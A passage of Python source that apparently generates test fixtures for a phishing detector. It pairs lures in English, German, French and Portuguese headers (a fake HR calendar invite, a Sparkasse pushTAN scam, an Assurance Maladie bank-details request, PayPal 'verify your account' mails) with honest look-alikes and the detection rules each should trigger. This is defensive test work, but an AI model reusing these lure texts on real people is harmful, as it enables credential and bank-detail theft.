        f'ATTENDEE;ROLE=REQ-PARTICIPANT;RSVP=TRUE:mailto:{READER}', f'LOCATION:{place}', f'DESCRIPTION:{about}', 'STATUS:CONFIRMED', 'SEQUENCE:0',
        'END:VEVENT', 'END:VCALENDAR'))
    return File('text/calendar; method=REQUEST', 'invite.ics', folded + '\n')


def calendar_invite():
    yield Story('calendar-invite', 'an invitation from a stranger that asks to sign in at a foreign page before the meeting', 'suspicious', 'Human Resources',
                'hr@rowan-petsitting.example', 'Invitation: Mandatory review of your salary and benefits', policy='none',
                fires=('calendar-lure', 'calendar-account'), text="""
You have been invited to a meeting.

Mandatory review of your salary and benefits
Monday, 2 February 2026, 09:00

You must sign in with your e-mail and password to confirm your
account before the meeting:
https://benefits.pixel-loft.example/join/reader
""", files=(invitation('Mandatory review of your salary and benefits', 'hr@rowan-petsitting.example', 'Human Resources', 'https://benefits.pixel-loft.example/join/reader',
                       'You must sign in with your e-mail and password to confirm your account: https://benefits.pixel-loft.example/join/reader'),))
    yield Story('calendar-invite-honest', 'near miss: a person of another firm invites to a meeting on Zoom', 'clean', 'Jonas Petersen', 'jonas@kestrel-hifi.example',
                'Invitation: Loudspeakers for the canteen', fires=('aligned-pass',), silent=('calendar-lure', 'calendar-account'), text="""
Jonas Petersen is inviting you to a scheduled Zoom meeting.

Topic: Loudspeakers for the canteen
Time: 2 February 2026, 09:00

Join Zoom Meeting
https://us02web.zoom.us/j/84155501170?pwd=mAdEuPsToRy

Meeting ID: 841 5550 1170
Passcode: 220517
""", files=(invitation('Loudspeakers for the canteen', 'jonas@kestrel-hifi.example', 'Jonas Petersen', 'https://us02web.zoom.us/j/84155501170?pwd=mAdEuPsToRy',
                       'Join Zoom Meeting https://us02web.zoom.us/j/84155501170?pwd=mAdEuPsToRy'),))


# ---- in German and in French
def german():
    yield Story('de-bank', 'eine Sparkasse über gekaufter Domain: das pushTAN-Verfahren laufe ab, die Anmeldung führt zu einem fremden Host', 'malicious', 'Sparkasse',
                'service@kundenpost-mitteilung.example', 'Wichtig: Ihr pushTAN-Verfahren läuft ab',
                fires=('brand-in-name', 'brand-links-elsewhere', 'account-ends-unvouched'), html=page(
        '<p style="background:#ee0000;color:#ffffff;padding:10px"><b>Sparkasse</b></p>\n<p>Sehr geehrter Kunde,</p>\n<p>Ihre Registrierung für das S-pushTAN-Verfahren läuft am '
        '2. Februar 2026 ab. Damit Ihr Konto nicht gesperrt wird, bestätigen Sie bitte umgehend Ihre Daten und melden Sie sich mit Anmeldename und PIN an.</p>\n' +
        button('https://anmeldung.pixel-loft.example/spk/push?r=7', 'Jetzt aktualisieren', '#ee0000') + '<p>Mit freundlichen Grüßen<br>Ihre Sparkasse</p>'))
    yield Story('de-bank-honest', 'fast dasselbe von der Bank selbst: sie kündigt an, verlangt nichts und warnt vor falschen Mails', 'clean', 'Sparkasse',
                'newsletter@mailing.sparkasse.de', 'Neues in Ihrer S-pushTAN-App',
                fires=('aligned-pass',), silent=('brand-in-name', 'brand-links-elsewhere'), html=page(
        '<p><b>Sparkasse</b></p>\n<p>Guten Tag Frau Marsh,</p>\n<p>mit der neuen Version der S-pushTAN-App können Sie Aufträge auch mit dem Gesicht freigeben. Die App '
        'aktualisiert sich von selbst, Sie müssen nichts tun.</p>\n<p><a href="https://www.sparkasse.de/pushtan">Mehr über die App</a></p>\n'
        '<p>Bitte beachten Sie: Wir fragen Sie nie per E-Mail nach PIN oder TAN.</p>\n<p style="font-size:11px"><a href="https://www.sparkasse.de/impressum">Impressum</a></p>'))


def french():
    yield Story('fr-health', 'la caisse de maladie sous un domaine acheté : la carte expire, des frais et une carte bancaire', 'malicious', 'Assurance Maladie',
                'contact@courrier-assures.example', 'Votre carte Vitale expire : mise à jour obligatoire',
                fires=('brand-in-name', 'brand-links-elsewhere', 'account-ends-unvouched'), html=page(
        '<p><b>l\'Assurance Maladie</b></p>\n<p>Cher client,</p>\n<p>Votre carte Vitale arrive à expiration. Pour continuer à être remboursé de vos soins, vous devez mettre à jour '
        'vos informations personnelles et confirmer vos coordonnées bancaires sous 48 heures.</p>\n' +
        button('https://espace.pixel-loft.example/vitale/maj', 'Mettre à jour mes informations', '#0c419a') + '<p>Votre caisse d\'Assurance Maladie</p>'))
    yield Story('fr-health-honest', 'presque le même, de la caisse elle-même : un message attend dans l\'espace personnel', 'clean', 'Assurance Maladie',
                'ne-pas-repondre@info.ameli.fr', 'Un nouveau message dans votre compte ameli',
                fires=('aligned-pass',), silent=('brand-in-name', 'brand-links-elsewhere'), text="""
Bonjour Madame Marsh,

Un nouveau message est disponible dans votre compte ameli : votre
attestation de droits pour 2026.

Pour le lire, connectez-vous comme d'habitude sur www.ameli.fr ou
dans l'application.

L'Assurance Maladie ne demande jamais de coordonnées bancaires par
courriel ni par SMS.

Votre caisse d'Assurance Maladie
""")


# ---- letters that are passed on without a word
def of_friend(folder, why, verdict, subject, **more):
    return Story(folder, why, verdict, 'Helena Brook', 'helena.brook.made.up.story@gmail.com', subject, road=GMAIL, signers=GMAIL_SIGNER, policy='none', **more)


def passed_on():
    yield of_friend('forwarded-lure', 'a letter passed on without a word, in the form of Outlook: the head tells a payment brand and a stranger\'s address', 'suspicious',
                    'ENC: Aviso da sua conta', fires=('forwarded-brand', 'forwarded-brand-asks'), html=page(
        '<p>Obter o Outlook para iOS</p>\n<hr>\n<p><b>De:</b> PayPal &lt;central@mailer-quiet-orchard.example&gt;<br>\n'
        '<b>Enviado:</b> sexta-feira, 30 de janeiro de 2026 21:14<br>\n<b>Para:</b> helena.brook.made.up.story@gmail.com<br>\n'
        '<b>Assunto:</b> Aviso da sua conta</p>\n<p>Hello,</p>\n<p>some of your details are not complete. '
        'Please verify your account.</p>\n' + button('https://review.quiet-orchard.example/s/44', 'Verify my account', '#12395b')))
    yield of_friend('forwarded-lure-hidden', 'a phish written below a line that pretends it was answered, with fields that anybody can add', 'suspicious',
                    'RE: Your PayPal account', more='In-Reply-To: <c81@mail.gmail.com>\nReferences: <c81@mail.gmail.com>\n',
                    fires=('brand-free-mail', 'account-ends-unvouched'), html=page(
        '<p>-----Original Message-----</p>\n<p><b>PayPal</b></p>\n<p>Hello,</p>\n<p>your PayPal account has been suspended. '
        'Please verify your account.</p>\n' + button('https://review.quiet-orchard.example/s/45', 'Verify my account', '#12395b')))
    yield of_friend('forwarded-receipt-honest', 'near miss: a receipt that a friend passes on without a word; its links are those of the shop that it tells', 'clean',
                    'Fwd: Your order at Wren & Daughters Books', fires=('aligned-pass',), silent=('all-links-unvouched', 'forwarded-random'), html=page(
        '<p>---------- Forwarded message ---------<br>\nFrom: <b>Wren &amp; Daughters Books</b> &lt;orders@wren-books.example&gt;<br>\n'
        'Date: Fri, 30 Jan 2026 at 18:02<br>\nSubject: Your order at Wren &amp; Daughters Books<br>\nTo: &lt;helena.brook.made.up.story@gmail.com&gt;</p>\n'
        '<p>Dear Helena,</p>\n<p>thank you for your order. Your payment of 24.50 pounds by PayPal has arrived, and the parcel leaves on Monday.</p>\n' +
        button('https://www.wren-books.example/orders/5521', 'See your order', '#3b5b32') +
        '<p style="font-size:11px">Wren &amp; Daughters Books, 3 Mill Lane, Whitby</p>'))


def stories():
    for kind in (mailgun_hijacked, partner_rfp, qr_code, html_smuggling, callback_invoice, bought_domain_brand, gift_card_boss, bank_change, shared_file, own_domain,
                 display_name, extortion, calendar_invite, german, french, passed_on):
        yield from kind()
